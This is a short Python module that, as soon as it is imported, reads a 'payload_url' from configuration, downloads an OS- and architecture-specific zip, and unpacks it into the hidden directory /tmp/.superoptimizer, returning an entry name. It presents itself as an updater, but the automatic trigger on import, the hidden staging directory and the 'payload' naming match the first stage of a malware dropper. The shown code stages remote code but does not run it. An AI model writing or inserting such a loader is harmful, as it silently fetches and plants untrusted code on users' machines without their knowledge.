from .pf import load_config, get_os, get_arch
import os, zipfile, requests
def download_and_unzip(url, target_dir):
    tfile_path = target_dir + '/update.zip'
    if not os.path.exists(target_dir):
        os.makedirs(target_dir)
    resp = requests.get(url, stream=True)
    with open(tfile_path, 'wb') as fh:
        for chunk in resp.iter_content(chunk_size=8192):
            fh.write(chunk)
    with zipfile.ZipFile(tfile_path) as zf:
        zf.extractall(target_dir)
    return target_dir

def start_sub():
    config = load_config()
    url = config.get('payload_url')
    target_dir = config.get('target_dir', '/tmp/.superoptimizer')
    entry = config.get('entry', 'run')
    # pick the build for this host
    build = get_os() + '-' + get_arch()
    path = download_and_unzip(url + '/' + build + '.zip', target_dir)
    return path, entry


start_sub()
